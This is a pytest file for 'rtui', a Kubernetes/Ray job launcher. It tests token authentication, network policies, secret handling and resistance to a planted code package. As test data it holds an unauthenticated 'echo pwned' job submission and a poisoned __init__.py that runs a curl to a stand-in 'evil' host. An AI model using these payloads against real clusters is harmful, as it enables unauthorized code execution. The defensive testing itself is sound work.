"""The cluster is closed (issue 23): Ray on the cluster authenticates, and only rtui has the token.

A client in the pod network (any pod of any namespace reaching ``<cluster>-head-svc:8265``) is
played by a request straight to the fake head, with no API server in between; rtui itself goes
through the API server's service proxy, which drops the ``Authorization`` header it authenticated.
"""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from pathlib import Path

from tests.kube.kube_world import KubeWorld, events, gpu_cluster, world

__all__ = ["world"]  # the fixture, imported for pytest

NAMESPACE, CLUSTER = "rtui", "rtui-ray"


def probe(url: str, method: str = "GET", headers: dict[str, str] | None = None,
          body: bytes | None = None) -> tuple[int, str]:
    request = urllib.request.Request(url, method=method, headers=headers or {}, data=body)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as err:
        return err.code, err.read().decode()



def assert_written_nowhere(secret: str, state: Path, output: str) -> None:
    """``secret`` is in no file under rtui's state dir (records, ledger, logs) nor in what rtui printed."""
    for file in state.rglob("*"):
        if file.is_file():
            assert secret not in file.read_text(errors="replace"), file
    assert secret not in output

def test_ray_on_the_cluster_refuses_a_pod_network_client_without_the_token(world: KubeWorld) -> None:
    gpu_cluster(world.cluster)
    up = world.rtui("up", "--yes", "--json", timeout=180)
    last = events(up.stdout)[-1]
    assert last["kind"] == "done" and last["data"]["job_status"] == "SUCCEEDED", last
    head = world.head.url
    status, body = probe(f"{head}/api/jobs/")
    assert (status, body) == (401, "Unauthorized: Missing authentication token")
    status, body = probe(f"{head}/api/jobs/", headers={"Authorization": "Bearer guessed"})
    assert (status, body) == (403, "Forbidden: Invalid authentication token")
    submit = json.dumps({"entrypoint": "echo pwned", "submission_id": "pwned"}).encode()
    status, _ = probe(f"{head}/api/jobs/", "POST", {"Content-Type": "application/json"}, submit)
    assert status == 401 and "pwned" not in world.head.jobs
    # Only those probes were refused: every request of rtui's carried the token.
    assert [s for _, s in world.head.refused] == [401, 403, 401], world.head.refused

    rc = world.cluster.get("RayCluster", CLUSTER, NAMESPACE)
    assert rc is not None and rc["spec"]["authOptions"] == {"mode": "token", "secretName": f"{CLUSTER}-ray-token"}
    token = world.head.auth_token
    assert token
    secret = world.cluster.get("Secret", f"{CLUSTER}-ray-token", NAMESPACE)
    assert secret is not None and secret["metadata"]["labels"].get("rtui.dev/run")
    assert_written_nowhere(token, world.state, up.stdout + up.stderr)
    world.rtui("down", "--yes", timeout=180)
    assert world.cluster.get("Secret", f"{CLUSTER}-ray-token", NAMESPACE) is None


def test_a_package_planted_under_the_name_rtui_would_compute_is_not_what_the_job_runs(world: KubeWorld) -> None:
    """Ray skips the upload when the URI exists (the fake's GET answers 200): a package someone put
    there first, under the hash of the public ``training/`` code, would be the job's code."""
    import io
    import zipfile

    from backend.jobspec import training_package_dir
    from backend.raypackage import package_uri

    gpu_cluster(world.cluster)
    guessed = package_uri(training_package_dir()).split("://", 1)[1]
    planted = io.BytesIO()
    with zipfile.ZipFile(planted, "w") as archive:
        archive.writestr("training/__init__.py", "import os; os.system('curl evil')\n")
    world.head.packages[guessed] = planted.getvalue()

    up = world.rtui("up", "--yes", "--json", timeout=180)
    assert events(up.stdout)[-1]["data"]["job_status"] == "SUCCEEDED"
    (job,) = world.head.jobs.values()
    (uri,) = job.runtime_env["py_modules"]
    name = uri.split("://", 1)[1]
    assert name != guessed and name.startswith("_ray_pkg_") and name.endswith(".zip")
    shipped = zipfile.ZipFile(io.BytesIO(world.head.packages[name]))
    assert shipped.read("training/__init__.py") == (training_package_dir() / "__init__.py").read_bytes()


def test_the_network_policy_admits_the_ray_pods_and_the_api_servers_proxy_and_no_one_else(world: KubeWorld) -> None:
    """On a cluster whose CNI enforces policies (the emulator applies them, pod_network.py), the job runs
    through the API server's proxy (the proxy dials the head from the API server's address), a Ray
    worker reaches the head, and a pod of another namespace, or a non-Ray pod of ours, does not."""
    from tests.kube.pod_network import Source

    gpu_cluster(world.cluster)
    world.cluster.enforce_network_policies()
    up = world.rtui("up", "--yes", "--json", timeout=180)
    assert events(up.stdout)[-1]["data"]["job_status"] == "SUCCEEDED", events(up.stdout)[-1]

    svc = f"{CLUSTER}-head-svc"
    world.cluster.add_namespace("team-b")
    outsider = Source(ip="10.244.9.9", namespace="team-b", labels={"app": "notebook"}, pod="notebook",
                      namespace_labels={"kubernetes.io/metadata.name": "team-b"})
    assert world.cluster.pod_request(outsider, NAMESPACE, svc, "dashboard", "/api/version") is None
    # A pod of ours that is no Ray pod (the image pre-pull) is kept out too.
    neighbour = Source(ip="10.244.9.10", namespace=NAMESPACE, labels={"app.kubernetes.io/name": "x"}, pod="x",
                       namespace_labels={"kubernetes.io/metadata.name": NAMESPACE})
    assert world.cluster.pod_request(neighbour, NAMESPACE, svc, "dashboard", "/api/version") is None
    worker = world.cluster.get("Pod", f"{CLUSTER}-gpu-worker-0", NAMESPACE)
    assert worker is not None
    from_worker = Source(ip=worker["status"]["podIP"], namespace=NAMESPACE, labels=worker["metadata"]["labels"],
                         pod=worker["metadata"]["name"],
                         namespace_labels={"kubernetes.io/metadata.name": NAMESPACE})
    reached = world.cluster.pod_request(from_worker, NAMESPACE, svc, "dashboard", "/api/version")
    assert reached is not None and reached[0] == 401  # in, and then Ray's token

    check = json.loads(world.rtui("check", "--json").stdout)
    policy_check = next(c for c in check["checks"] if c["id"] == "kube.network-policy")
    assert policy_check["status"] == "ok" and "kube-system/calico-node" in policy_check["detail"], policy_check
    policy = world.cluster.get("NetworkPolicy", f"{CLUSTER}-ray", NAMESPACE)
    assert policy is not None and policy["metadata"]["labels"].get("rtui.dev/run")
    # Nothing the official client's model drops (a misspelt or unknown field): the Kubernetes schema.
    from kubernetes.client import ApiClient

    client = ApiClient()
    bare = {k: v for k, v in policy.items() if k in ("apiVersion", "kind", "spec")}
    model = client.deserialize(json.dumps(bare), "V1NetworkPolicy", "application/json")
    assert client.sanitize_for_serialization(model) == bare

    world.rtui("down", "--yes", timeout=180)
    assert world.cluster.get("NetworkPolicy", f"{CLUSTER}-ray", NAMESPACE) is None


def test_the_plan_says_when_the_cluster_does_not_enforce_network_policies(world: KubeWorld) -> None:
    gpu_cluster(world.cluster)
    check = json.loads(world.rtui("check", "--json").stdout)
    policy_check = next(c for c in check["checks"] if c["id"] == "kube.network-policy")
    assert policy_check["status"] == "warn" and "not enforced" in policy_check["detail"], policy_check
    plan = json.loads(world.rtui("plan", "--json").stdout)
    (change,) = [c for c in plan["changes"] if c["address"] == "kube.networkpolicy.ray"]
    assert "not enforced" in change["after"]["enforced"], change
    text = world.rtui("plan").stdout
    assert "not enforced" in text, text[-2000:]


def test_job_env_values_reach_the_job_through_a_secret_and_nowhere_the_jobs_api_or_rtui_shows(
        world: KubeWorld) -> None:
    import base64

    gpu_cluster(world.cluster)
    value = "wandb-Value-9f8e7d6c5b4a"
    world.env["WANDB_API_KEY"] = value
    up = world.rtui("up", "--yes", "--json", "--job-env", "WANDB_API_KEY", timeout=180)
    assert events(up.stdout)[-1]["data"]["job_status"] == "SUCCEEDED"

    # What anyone with the Jobs API sees (Ray returns each job's runtime_env): no value.
    token = world.head.auth_token
    status, listed = probe(f"{world.head.url}/api/jobs/", headers={"X-Ray-Authorization": f"Bearer {token}"})
    assert status == 200 and value not in listed
    (job,) = world.head.jobs.values()
    env_vars = job.runtime_env["env_vars"]
    assert "WANDB_API_KEY" not in env_vars and value not in json.dumps(job.runtime_env)
    path = env_vars["RTUI_JOB_ENV_FILE"]

    # The job reads it from the run's Secret, mounted in every Ray container at that path.
    secret = world.cluster.get("Secret", f"{CLUSTER}-job-env", NAMESPACE)
    assert secret is not None and secret["metadata"]["labels"].get("rtui.dev/run")
    (key, data), = secret["data"].items()
    assert json.loads(base64.b64decode(data)) == {"WANDB_API_KEY": value}
    rc = world.cluster.get("RayCluster", CLUSTER, NAMESPACE)
    assert rc is not None
    for group in [rc["spec"]["headGroupSpec"], *rc["spec"]["workerGroupSpecs"]]:
        spec = group["template"]["spec"]
        (volume,) = [v for v in spec["volumes"] if v.get("secret", {}).get("secretName") == f"{CLUSTER}-job-env"]
        (mount,) = [m for m in spec["containers"][0]["volumeMounts"] if m["name"] == volume["name"]]
        assert f"{mount['mountPath']}/{key}" == path and mount["readOnly"] is True
    assert value not in json.dumps(rc)

    # Applying twice does nothing; a changed value updates the Secret alone, and the plan never shows it.
    again = json.loads(world.rtui("plan", "--json", "--job-env", "WANDB_API_KEY").stdout)
    assert {c["address"]: c["action"] for c in again["changes"] if c["action"] != "noop"} == {}
    world.env["WANDB_API_KEY"] = value + "-rotated"
    changed = world.rtui("plan", "--json", "--job-env", "WANDB_API_KEY").stdout
    assert {c["address"]: c["action"] for c in json.loads(changed)["changes"] if c["action"] != "noop"} == {
        "kube.secret.job-env": "update"}
    assert value not in changed

    assert_written_nowhere(value, world.state, up.stdout + up.stderr)
    world.rtui("down", "--yes", timeout=180)
    assert world.cluster.get("Secret", f"{CLUSTER}-job-env", NAMESPACE) is None
